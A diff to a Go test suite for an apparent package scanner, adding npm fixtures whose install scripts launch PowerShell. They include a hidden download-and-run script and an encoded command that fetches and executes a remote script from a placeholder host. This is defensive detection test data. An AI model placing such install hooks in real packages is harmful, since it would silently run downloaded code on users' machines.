@@ -35,6 +35,14 @@ func TestNativeExecutable(t *testing.T) {
 		{"ps1_at_install_all_systems", map[string]string{"package.json": rt.Pkg(`"os":["win32","linux","darwin"],"scripts":{"install":"node i.js"}`),
 			"i.js":      `const { spawn } = require("child_process"); spawn("powershell.exe", ["-File", require("path").join(__dirname, "setup.ps1")], { detached: true, stdio: "ignore" })`,
 			"setup.ps1": "Write-Host 'checking'\r\n"}, finding.SeverityCritical},
+		// a platform package's own install script that downloads and
+		// runs a program
+		{"ps1_at_install_platform_downloads", map[string]string{"package.json": rt.Pkg(`"os":["win32"],"scripts":{"postinstall":"node i.js"}`),
+			"i.js":      `const { spawn } = require("child_process"); spawn("powershell.exe", ["-File", require("path").join(__dirname, "setup.ps1")], { detached: true, stdio: "ignore" })`,
+			"setup.ps1": "(New-Object Net.WebClient).DownloadFile($src, $dst)\r\nStart-Process -FilePath $dst -WindowStyle Hidden\r\n"}, finding.SeverityCritical},
+		{"ps1_at_install_platform_quiet", map[string]string{"package.json": rt.Pkg(`"os":["win32"],"scripts":{"postinstall":"node i.js"}`),
+			"i.js":      `const { spawn } = require("child_process"); spawn("powershell.exe", ["-File", require("path").join(__dirname, "setup.ps1")])`,
+			"setup.ps1": "Write-Host 'registering the shim directory'\r\n"}, finding.SeverityLow},
 		{"ps1_encoded_in_variable", map[string]string{"package.json": rt.Pkg(""), "tools/policy.ps1": "$policy = 'aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBpAG4AdgBhAGwAaQBkAC8AcAAuAHAAcwAxACkA'\r\npowershell -NoProfile -EncodedCommand $policy\r\n"}, finding.SeverityHigh},
 	})
 }
